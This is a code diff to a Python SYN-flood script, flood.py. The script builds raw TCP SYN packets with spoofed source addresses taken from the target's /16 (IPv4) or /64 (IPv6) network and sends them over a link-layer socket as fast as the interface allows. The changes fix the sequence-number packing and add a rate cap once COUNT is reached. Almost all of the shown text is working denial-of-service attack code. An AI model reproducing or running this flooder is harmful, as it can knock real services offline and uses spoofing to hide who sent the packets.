@@ -5,8 +5,8 @@
 flood.py DEVICE HARDWARE-ADDRESS ADDRESS PORT COUNT
 
 SYNs to ADDRESS PORT, at HARDWARE-ADDRESS, each from another address in the network of ADDRESS (a /16 of IPv4, a /64
-of IPv6) and another port, as fast as the device takes them: COUNT, and more until SIGTERM. Nobody answers what they
-bring about.
+of IPv6) and another port, as fast as the device takes them: COUNT, and then more, 16 in a millisecond at most, until
+SIGTERM. Nobody answers what they bring about.
 """
 import itertools
 import signal
@@ -27,7 +27,8 @@ def checksum(data):
 
 
 def syn(pseudo, n):
-    head = struct.pack("!HHIIBBH", 1024 + n % 60000, int(PORT), n * 7919, 0, (20 + len(OPTIONS)) // 4 << 4, 2, 65535)
+    ports, sequence = (1024 + n % 60000, int(PORT)), n * 7919 & 0xffffffff
+    head = struct.pack("!HHIIBBH", *ports, sequence, 0, (20 + len(OPTIONS)) // 4 << 4, 2, 65535)
     pseudo += struct.pack("!BBH", 0, 6, len(head) + 4 + len(OPTIONS))
     return head + struct.pack("!HH", checksum(pseudo + head + bytes(4) + OPTIONS), 0) + OPTIONS
 
@@ -53,8 +54,10 @@ ethernet = bytes.fromhex(HARDWARE.replace(":", "")) + link.getsockname()[4] + (b
 terminated = []
 signal.signal(signal.SIGTERM, lambda *_: terminated.append(True))
 for number in itertools.count():
-    if terminated and number >= int(COUNT):
-        break
+    if number >= int(COUNT) and number % 16 == 0:
+        if terminated:
+            break
+        time.sleep(0.001)
     while True:
         try:
             link.send(ethernet + (packet6 if v6 else packet4)(target, number))
